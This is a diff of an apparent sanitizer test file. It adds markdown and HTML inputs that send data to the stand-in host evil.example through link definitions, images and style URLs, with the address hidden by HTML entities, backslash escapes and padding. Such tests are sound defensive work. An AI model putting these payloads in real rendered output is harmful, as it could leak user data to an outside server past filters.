@@ -21,6 +21,9 @@ STAYS = {
     "a tag that is only quoted, before a tag": '`<a x="` <img src="//evil.example/?>{}">',
     "a definition in angle brackets": "[x]: <https://evil.example/a {}>",
     "many spaces before angle brackets": "[x](        <https://evil.example/a {}>)",
+    "a definition with entities": "[x]: https&#58;&#47;&#47;evil.example&sol;{}",
+    "a definition with backslashes": "[x]: https\\:\\/\\/evil\\.example\\/{}",
+    "many spaces before entities": "[x](        https&colon;&sol;&sol;evil.example&sol;{})",
     "an escaped angle bracket": "[x](<https://evil.example/\\> {}>)",
     "a style of any element": "<div style=\"background:url('//evil.example/? {}')\">",
     "a style with entities": '<p style="background:url(&quot;//evil.example/? {}&quot;)">',
@@ -55,6 +58,7 @@ COMES = {
     "an apostrophe after a tag": "<img alt=it's src=x> I don't know {}",
     "a comparison": "if x <y and {}",
     "after a long value": '<img src="' + "a b=c " * 3_000 + '"> {}',
+    "a reference and beside entities": "[1]: {}, [2]: a&amp;{}, a\\_b:{}",
     "alternatives": "and/or {}, really?{}",
 }
 
